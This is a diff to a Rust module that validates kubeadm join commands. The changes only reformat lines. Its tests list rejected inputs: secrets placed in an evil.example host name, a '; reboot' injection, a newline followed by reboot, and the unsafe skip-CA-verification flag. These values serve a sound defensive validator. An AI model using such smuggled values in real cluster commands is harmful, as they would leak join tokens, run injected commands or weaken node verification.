@@ -16,7 +16,9 @@ pub const TOKEN: &str = "token";
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 pub enum InvalidLine {
     /// Other words than those of a join command.
-    #[error("it must be `kubeadm join HOST:PORT --token TOKEN`, and further --discovery-token-ca-cert-hash, --control-plane and --certificate-key")]
+    #[error(
+        "it must be `kubeadm join HOST:PORT --token TOKEN`, and further --discovery-token-ca-cert-hash, --control-plane and --certificate-key"
+    )]
     Join,
     /// A flag, or another word.
     #[error("`{0}` may not stand in a join command that a phase makes")]
@@ -192,9 +194,17 @@ mod tests {
     fn a_join_command_is_written_anew() {
         for (text, expected) in [
             (format!("kubeadm join a:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} "), None),
-            (format!("kubeadm join [::1]:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} --control-plane --certificate-key {{2}}"), None),
+            (
+                format!(
+                    "kubeadm join [::1]:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} --control-plane --certificate-key {{2}}"
+                ),
+                None,
+            ),
             ("kubeadm join a:1 --token abcdef.{1}".to_owned(), None),
-            ("kubeadm  join a:1   --control-plane --token abcdef.{1}".to_owned(), Some("kubeadm join a:1 --token abcdef.{1} --control-plane")),
+            (
+                "kubeadm  join a:1   --control-plane --token abcdef.{1}".to_owned(),
+                Some("kubeadm join a:1 --token abcdef.{1} --control-plane"),
+            ),
             ("kubeadm join a:1 --token abcdef.0123456789abcdef".to_owned(), None),
         ] {
             let (output, secrets) = line("join-command", &text);
@@ -207,7 +217,11 @@ mod tests {
     fn what_is_no_join_command_is_refused() {
         use InvalidLine::{Join, Key, Part, Secret, Token, Word};
         for (name, text, is_expected) in [
-            ("join-command", "kubeadm join {1}.evil.example:6443 --token abcdef.{1}", (|e| *e == Secret) as fn(&InvalidLine) -> bool),
+            (
+                "join-command",
+                "kubeadm join {1}.evil.example:6443 --token abcdef.{1}",
+                (|e| *e == Secret) as fn(&InvalidLine) -> bool,
+            ),
             ("join-command", "kubeadm join x{1}:6443 --token abcdef.0123456789abcdef", |e| *e == Secret),
             ("join-command", "kubeadm join a:1 --token abcdef.{1}.evil", |e| *e == Secret),
             ("join-command", "kubeadm join a:1 --token abcdef.{1}{2}", |e| *e == Secret),
@@ -222,7 +236,9 @@ mod tests {
             ("join-command", "kubeadm join a:1 --token abcdef.{1} ; reboot", |e| matches!(e, Word(_))),
             ("join-command", "kubeadm join a:1 --token abcdef.{1}\nreboot", |e| *e == Secret),
             ("join-command", "kubeadm join a:1 --token abcdef.{1} --config=/x", |e| *e == Word("--config".to_owned())),
-            ("join-command", "kubeadm join a:1 --token abcdef.{1} --discovery-token-unsafe-skip-ca-verification", |e| matches!(e, Word(_))),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --discovery-token-unsafe-skip-ca-verification", |e| {
+                matches!(e, Word(_))
+            }),
             ("join-command", "kubeadm join a:1 --token abcdef.{1} --token abcdef.{1}", |e| matches!(e, Word(_))),
             ("join-command", "kubeadm join a:1 --token abcdef.{1} --certificate-key {3}", |e| *e == Key),
             ("join-command", "kubeadm join a:1 --token abcdef.{1} --certificate-key x{2}", |e| *e == Key),
